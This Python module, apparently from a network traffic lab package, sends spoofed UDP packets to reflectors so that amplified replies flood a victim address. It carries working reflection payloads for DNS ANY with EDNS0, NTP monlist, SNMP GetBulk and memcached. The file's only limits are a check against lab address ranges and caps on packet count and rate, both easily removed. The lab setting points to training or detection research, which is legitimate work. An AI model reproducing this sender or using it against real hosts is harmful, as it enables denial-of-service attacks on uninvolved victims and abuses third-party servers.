"""A small raw-socket sender for reflection attacks inside the lab (spoofed UDP requests).

It builds IPv4/UDP packets whose source is a lab host (the victim being reflected at)
and sends them to lab reflectors, so the replies land on the victim. It refuses any
source or destination outside the lab (LAB_NET for sources, LAB_SPACE for targets), and
it is bounded: exactly `--count` packets at most `--rate` per second, then it exits.

    ip netns exec el-1-att python -m trafficlab.spoof --src 10.77.0.36 \\
        --dst 10.77.0.80,10.77.0.91 --kind dns --count 800 --rate 400 --seed 3

Kinds (payloads a real reflection attack sends):
    dns        ANY or TXT query with EDNS0 (4096-byte buffer) for a name the reflector serves
    ntp        NTP mode 7 MON_GETLIST (the "monlist" amplification); --ntp-mode 3 for a
               plain client request
    snmp       SNMPv2c GetBulkRequest (community "public") with --reps max-repetitions
    memcached  memcached UDP frame with "stats" or "get <keys>"
"""
from __future__ import annotations

import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

from trafficlab.topology import LAB_NET, LAB_SPACE

PORTS = {"dns": 53, "ntp": 123, "snmp": 161, "memcached": 11211}
MAX_COUNT = 200_000
MAX_RATE = 20_000


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def udp_packet(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int,
               ttl: int = 64) -> bytes:
    """IPv4 header + UDP header + payload, checksums filled in."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    length = 8 + len(payload)
    pseudo = s + d + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = _checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, ident & 0xFFFF, 0, ttl, 17, 0, s, d)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + udp


def dns_query(rng: random.Random, name: str, qtype: int) -> bytes:
    header = struct.pack("!HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 1)
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0"
    return header + qname + struct.pack("!HH", qtype, 1) + b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)


def ntp_request(mode: int) -> bytes:
    if mode == 7:       # implementation 3 (XNTPD), request code 42 (MON_GETLIST_1)
        return bytes([0x17, 0x00, 0x03, 0x2A]) + b"\0" * 4
    return bytes([0x23]) + b"\0" * 39 + struct.pack("!II", int(time.time()) + 2208988800, 0)


def _ber(tag: int, body: bytes) -> bytes:
    n = len(body)
    if n < 128:
        return bytes([tag, n]) + body
    ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(ln)]) + ln + body


def _int(v: int) -> bytes:
    return _ber(0x02, v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big", signed=True))


def snmp_getbulk(rng: random.Random, reps: int, oid: str = "1.3.6.1.2.1", community: str = "public") -> bytes:
    parts = [int(x) for x in oid.split(".")]
    enc = bytes([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7F]
        while p > 0x7F:
            p >>= 7
            chunk.insert(0, 0x80 | (p & 0x7F))
        enc += bytes(chunk)
    varbind = _ber(0x30, _ber(0x06, enc) + b"\x05\x00")
    pdu = _ber(0xA5, _int(rng.getrandbits(31)) + _int(0) + _int(reps) + _ber(0x30, varbind))
    return _ber(0x30, _int(1) + _ber(0x04, community.encode()) + pdu)


def memcached_request(rng: random.Random, command: str) -> bytes:
    return struct.pack("!HHHH", rng.getrandbits(16), 0, 1, 0) + command.encode() + b"\r\n"


def payload(kind: str, rng: random.Random, args: argparse.Namespace) -> bytes:
    if kind == "dns":
        return dns_query(rng, args.qname, args.qtype)
    if kind == "ntp":
        return ntp_request(args.ntp_mode)
    if kind == "snmp":
        return snmp_getbulk(rng, args.reps)
    return memcached_request(rng, args.memcached)


def _check(src: str, dsts: list[str]) -> None:
    if ipaddress.ip_address(src) not in LAB_NET:
        raise SystemExit(f"spoof: source {src} is not a lab host address ({LAB_NET})")
    for d in dsts:
        if ipaddress.ip_address(d) not in LAB_SPACE:
            raise SystemExit(f"spoof: destination {d} is outside the lab ({LAB_SPACE})")


def send(args: argparse.Namespace) -> int:
    dsts = args.dst.split(",")
    _check(args.src, dsts)
    rng = random.Random(args.seed)
    port = args.dport or PORTS[args.kind]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    gap, t0, sent = 1.0 / args.rate, time.monotonic(), 0
    fixed = args.sport
    for i in range(args.count):
        dst = dsts[i % len(dsts)]
        sport = fixed or rng.randint(1024, 65535)
        pkt = udp_packet(args.src, dst, sport, port, payload(args.kind, rng, args), rng.getrandbits(16))
        try:
            sock.sendto(pkt, (dst, 0))
            sent += 1
        except OSError:
            pass
        delay = t0 + (i + 1) * gap - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    return sent


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description="Spoofed UDP requests to lab reflectors (bounded).")
    ap.add_argument("--src", required=True, help="spoofed source: the lab victim")
    ap.add_argument("--dst", required=True, help="comma-separated lab reflectors")
    ap.add_argument("--kind", choices=sorted(PORTS), required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--rate", type=float, default=500.0, help="packets per second")
    ap.add_argument("--dport", type=int, default=0)
    ap.add_argument("--sport", type=int, default=0, help="fixed source port (0: random per packet)")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--qname", default="corp.internal")
    ap.add_argument("--qtype", type=int, default=255)
    ap.add_argument("--ntp-mode", type=int, choices=(3, 7), default=7)
    ap.add_argument("--reps", type=int, default=25)
    ap.add_argument("--memcached", default="stats")
    args = ap.parse_args(argv)
    if not 0 < args.count <= MAX_COUNT or not 0 < args.rate <= MAX_RATE:
        raise SystemExit(f"spoof: count must be 1..{MAX_COUNT} and rate 1..{MAX_RATE}")
    n = send(args)
    print(f"spoof {args.kind}: sent {n} packets", flush=True)


if __name__ == "__main__":
    sys.exit(main())
